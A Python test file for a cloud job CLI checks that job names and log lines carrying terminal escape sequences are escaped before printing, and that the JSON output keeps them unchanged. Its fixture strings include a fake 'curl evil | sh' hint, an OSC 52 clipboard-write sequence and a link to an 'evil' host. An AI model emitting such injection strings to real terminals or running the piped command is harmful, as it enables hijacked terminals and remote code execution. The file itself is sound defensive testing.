"""Jobs whose name, log and model mean harm to the terminal, on a local cloud, and the bytes that commands write."""

from __future__ import annotations

import dataclasses
import datetime
import json
import time
from typing import Any
from urllib.parse import quote

import pytest

from cloudkite.accounts import registry
from cloudkite.jobs import service
from cloudkite.journey import results
from cloudkite.show import mistakes, screen
from clouds.fixtures import local_cloud, session  # noqa: F401  # fixtures
from tests.jobs import SPEC
from tests.local.place import Place, place  # noqa: F401

NAME = "pen\x1b]0;title\x07\u202eguin [red]\x9b31m\nerror: x\n\nhint: curl evil | sh"
LINE = "loss\x1b[2J \x1b]52;c;ZXZpbA==\x07 \x9d0;x\x9c \u2066x \x7f [link=https://evil]펭귄"
OBEYED = [
    b"\x1b",
    b"\x07",
    b"\r",
    b"\x7f",
    *(chr(n).encode() for n in range(128, 160)),
    "\u202e".encode(),
    "\u2066".encode(),
]


@pytest.fixture
def job(place: Place, monkeypatch: pytest.MonkeyPatch) -> Any:  # noqa: F811
    """A job of that name that has ended, with that line in its log and a model."""
    outputs = place.account.outputs()
    folder = f"tiny/{time.time_ns()}"
    spec = dataclasses.replace(
        SPEC, name=NAME, trainer="tiny", image="nobody/knows:1", service_account=outputs.trainer, accelerator="",
        count=0, machine="e2-standard-4", output=f"{outputs.buckets['models']}/{folder}/", spot=False,
    )  # fmt: skip
    web, bucket = place.target.session(), outputs.buckets["models"].removeprefix("gs://")
    url = f"https://storage.googleapis.com/upload/storage/v1/b/{bucket}/o?uploadType=media&name="
    assert web.post(url + quote(f"{folder}/model/saved_model.pb", safe=""), data=b"graph").ok
    made = service.create(place.target, spec)
    entry = {
        "logName": f"projects/{place.account.project}/logs/workerpool0-0",
        "resource": {"type": "ml_job", "labels": {"job_id": made.id, "task_name": "workerpool0-0"}},
        "jsonPayload": {"message": LINE, LINE: [LINE]}, "timestamp": f"{datetime.datetime.now(datetime.UTC):%FT%TZ}",
    }  # fmt: skip
    assert web.post("https://logging.googleapis.com/v2/entries:write", json={"entries": [entry]}).ok
    while made.active:
        time.sleep(0.05)
        made = service.get(place.target, made.id)
    monkeypatch.setattr(results, "connect", lambda *_given: place.target)
    monkeypatch.setattr(registry, "load", lambda *_given: place.account)
    screen._consoles.clear()
    return made


def test_no_command_passes_on_what_the_terminal_would_obey(
    place: Place,  # noqa: F811
    job: Any,
    capfdbinary: pytest.CaptureFixture[bytes],
) -> None:
    space = place.workspace
    results.list_jobs(space, "", everything=True)
    results.show_logs(space, "", job.id)
    results.fetch(space, "", job.id)
    results.cancel(space, "", job.id)
    with pytest.raises(SystemExit), mistakes.told():
        results.show_logs(space, "", NAME + "?")
    with pytest.raises(SystemExit), mistakes.told():
        results.fetch_job(space, place.target, dataclasses.replace(job, output="gs://nothing/"))
    said = b"".join(capfdbinary.readouterr())
    assert not [one for one in OBEYED if one in said]
    assert rb"\x1b]0;title\x07\u202eguin [red]\x9b31m" in said and "[link=https://evil]펭귄".encode() in said
    assert not [line for line in said.decode().splitlines() if line.startswith(("hint: curl", "error: x"))]


def test_json_is_escaped_and_says_the_same(
    place: Place,  # noqa: F811
    job: Any,
    capfdbinary: pytest.CaptureFixture[bytes],
) -> None:
    space = place.workspace
    results.list_jobs(space, "", everything=True, as_json=True)
    said = capfdbinary.readouterr().out
    assert NAME in [one["name"] for one in json.loads(said)]
    results.show_logs(space, "", job.id, as_json=True)
    lines = capfdbinary.readouterr().out
    assert LINE in [json.loads(line)["text"] for line in lines.splitlines()] and "펭귄".encode() in lines
    assert not [one for one in OBEYED if one in said + lines]
